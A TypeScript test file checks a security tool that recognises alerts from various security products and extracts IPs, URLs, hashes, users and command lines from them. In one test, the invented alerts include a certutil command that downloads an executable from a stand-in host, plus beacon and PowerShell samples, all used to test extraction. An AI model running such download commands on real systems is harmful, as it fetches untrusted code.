// Recognition of products from invented alerts in their shapes, and the walk that extracts observables.
import { describe, expect, test } from 'vitest'
import { cpuMs } from '../../../../../tests/kit/cpu-clock.ts'
import { extract, extractLimits } from './extract.ts'
import { readAlert, recogniseAlert, sourceReaders } from './index.ts'

const detection = {
  detection_id: 'ldt:0123:456',
  cid: 'c1',
  created_timestamp: '2026-01-02T03:04:05Z',
  max_severity_displayname: 'High',
  device: {
    hostname: 'ws-7',
    device_id: 'd7',
    platform_name: 'Windows',
    local_ip: '10.0.0.7',
    external_ip: '203.0.113.7',
  },
  behaviors: [
    {
      technique_id: 'T1059.001',
      tactic: 'Execution',
      user_name: 'ada',
      cmdline: 'powershell -nop',
      sha256: 'ab'.repeat(32),
    },
  ],
}
const incident = {
  id: '/subscriptions/s/resourceGroups/r/providers/x/Incidents/i1',
  name: 'i1',
  type: 'Microsoft.SecurityInsights/incidents',
  properties: {
    title: 'Odd sign-in',
    severity: 'Medium',
    createdTimeUtc: '2026-01-02T03:04:05Z',
    classification: 'FalsePositive',
  },
}
const suricata = {
  timestamp: '2026-01-02T03:04:05.000000+0000',
  flow_id: 99,
  event_type: 'alert',
  src_ip: '10.0.0.9',
  dest_ip: '203.0.113.20',
  alert: { signature_id: 7, signature: 'EXAMPLE beacon', severity: 1, action: 'blocked' },
  http: { hostname: 'update.example.net', url: '/gate.php', http_port: 8080 },
}
const finding = {
  class_uid: 2004,
  category_uid: 2,
  metadata: { uid: 'm1', product: { name: 'Example EDR' } },
  severity_id: 4,
  time: 1767323045000,
  finding_info: { title: 'Tool seen', uid: 'f1' },
}

describe('recogniseAlert', () => {
  test.each([
    [
      'cs',
      detection,
      { sourceAlertId: 'ldt:0123:456', severity: 'high', usernames: ['ada'], techniques: ['T1059.001'] },
    ],
    ['microsoft_sentinel', incident, { sourceAlertId: 'i1', title: 'Odd sign-in', severity: 'medium' }],
    [
      'suricata_eve',
      suricata,
      { severity: 'high', isMitigated: true, urls: ['http://update.example.net:8080/gate.php'] },
    ],
    ['ocsf', finding, { sourceAlertId: 'f1', severity: 'high', createdAt: '2026-01-02T03:04:05.000Z' }],
    ['aws_guardduty', { id: 'g', severity: 8, service: { serviceName: 'guardduty' } }, { severity: 'high' }],
    [
      'splunk_siem',
      { index: 'notable', event_id: 'e', urgency: 'critical', _time: '1767323045' },
      { severity: 'critical' },
    ],
  ])('reads %s without being told', (source, raw, facts) => {
    const read = recogniseAlert(raw)
    expect(read?.source).toBe(source)
    expect(read?.facts).toMatchObject(facts)
  })

  test('the caller may name the product in several spellings; a name that does not fit is not believed', () => {
    expect(recogniseAlert(detection, 'CrowdStrike Falcon')?.source).toBe('cs')
    expect(recogniseAlert(detection, 'microsoft_sentinel')?.source).toBe('cs')
    expect(recogniseAlert({ some: 'thing' }, 'cs')).toBeNull()
  })

  test('looks into an answer with one entry, not into one with several', () => {
    expect(recogniseAlert({ resources: [detection] })?.facts.sourceAlertId).toBe('ldt:0123:456')
    expect(recogniseAlert([detection])?.source).toBe('cs')
    expect(recogniseAlert({ resources: [detection, detection] })).toBeNull()
  })

  test('device addresses, hosts and hashes become observables once', () => {
    const observables = recogniseAlert(detection)!.observables
    expect(observables).toContainEqual({ kind: 'host', value: 'ws-7', role: 'target_host' })
    expect(observables).toContainEqual({ kind: 'ip', value: '203.0.113.7', role: 'target_host' })
    expect(observables.filter(({ value }) => value === 'ab'.repeat(32))).toHaveLength(1)
  })

  test('a record without an id is known by its content', () => {
    const record = { priority: 'Warning', rule: 'Example', output_fields: {}, time: '2026-01-02T03:04:05Z' }
    const id = recogniseAlert(record)!.facts.sourceAlertId
    expect(id).toMatch(/^[0-9a-f]{64}$/)
    expect(recogniseAlert({ ...record })!.facts.sourceAlertId).toBe(id)
    expect(recogniseAlert({ ...record, rule: 'Other' })!.facts.sourceAlertId).not.toBe(id)
  })

  test('claims: a dismissed incident, a record that is no alert', () => {
    expect(readAlert(incident)!.claims).toMatchObject({ kind: 'alert', opinion: 'dismissed' })
    expect(readAlert({ ...suricata, event_type: 'dns' })!.claims).toMatchObject({ kind: 'event', action: 'dns' })
  })

  test.each([null, 7, 'text', [], {}, [[]], { event: null }, { data: [null] }])('is not sure about %j', (raw) => {
    expect(recogniseAlert(raw)).toBeNull()
  })

  test('every reader has its own name and refuses an empty object', () => {
    const names = sourceReaders.map(({ source }) => source)
    expect(new Set(names).size).toBe(names.length)
    for (const reader of sourceReaders) expect(reader.matches({}), reader.source).toBe(false)
  })

  test('values of the wrong type in the right place do not throw', () => {
    const odd: unknown[] = [null, 5, 'x', [], [[]], {}, true, { toString: 1 }]
    for (const sample of [detection, incident, suricata, finding])
      for (const key of Object.keys(sample)) for (const value of odd) recogniseAlert({ ...sample, [key]: value })
  })
})

describe('extract', () => {
  test('finds values by shape and by key, also in JSON inside text', () => {
    const found = extract({
      message: 'beacon from 198.51.100.4:8080 to https://evil.example/a?b=1. Contact mallory@example.org',
      details: `{"CommandLine":"certutil -urlcache -f http://files.example.net/a.exe","sha1":"${'1f'.repeat(20)}"}`,
      UserName: 'CORP\\ada',
      agent_id: `${'c'.repeat(31)}d`,
      version: '10.0.0.1',
      dest_name: 'printer.local',
    })
    expect(found.ips).toEqual(['198.51.100.4'])
    expect(found.urls).toEqual(['https://evil.example/a?b=1', 'http://files.example.net/a.exe'])
    expect(found.domains).toEqual(['evil.example', 'files.example.net'])
    expect(found.emails).toEqual(['mallory@example.org'])
    expect(found.hashes).toEqual(['1f'.repeat(20)])
    expect(found.users).toEqual(['CORP\\ada'])
    expect(found.commandLines).toEqual([{ field: 'details.CommandLine', value: expect.stringContaining('certutil') }])
  })

  test('links the product adds for its reader are no evidence', () => {
    const found = extract({
      references: ['https://blog.example.com/x'],
      falconHostLink: 'https://console.example/x',
      link: 'https://attack.mitre.org/techniques/T1003',
    })
    expect(found.urls).toEqual([])
  })

  test('depth, count and long text are bounded and said', () => {
    let deep: unknown = { ip: '203.0.113.1' }
    for (let i = 0; i < 100_000; i++) deep = { a: deep }
    expect(extract(deep).complete).toBe(false)
    const wide = extract(
      Array.from({ length: extractLimits.nodes + 10 }, (_, i) => ({
        ip: `10.${i >> 16}.${(i >> 8) & 255}.${i & 255}`,
      })),
    )
    expect(wide.complete).toBe(false)
    expect(wide.ips).toHaveLength(extractLimits.perKind)
    const started = cpuMs()
    for (const text of ['a@', 'http://', '1.', 'a.', '@a.a', '{"a":', 'T1003 '])
      extract({ message: text.repeat(400_000), cmd: text.repeat(400_000) })
    expect(cpuMs() - started).toBeLessThan(2000)
  })
})
